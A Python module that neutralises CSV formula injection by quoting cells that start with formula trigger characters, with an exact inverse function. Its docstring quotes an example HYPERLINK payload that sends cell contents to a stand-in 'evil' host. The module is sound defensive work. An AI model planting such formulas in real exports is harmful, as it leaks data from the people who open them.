"""CSV cells that a spreadsheet cannot run: the formula guard every CSV assay writes goes through.

A spreadsheet program reads a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some, a
tab or carriage return first) as a formula, so a rater's justification such as
``=HYPERLINK("http://evil/?"&A1,"click")`` would run when a lead opens the export. OWASP's
"CSV Injection" page recommends prefixing such cells with a single quote, which spreadsheets
show as text. assay also prefixes a cell that already starts with a quote, so the guard can
be undone exactly: ``unguard(guard(s)) == s`` for every string, and assay's own CSV import of
record kinds undoes it.
"""

from __future__ import annotations

from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def guard(value: Any) -> Any:
    """``value`` safe to open in a spreadsheet: a text starting with a formula character (or a quote) gets a quote."""
    if isinstance(value, str) and value[:1] in (*TRIGGERS, QUOTE):
        return QUOTE + value
    return value


def unguard(value: Any) -> Any:
    """The text ``guard`` was given: one leading quote removed, when it stands before a guarded character."""
    if isinstance(value, str) and value[:1] == QUOTE and value[1:2] in (*TRIGGERS, QUOTE):
        return value[1:]
    return value
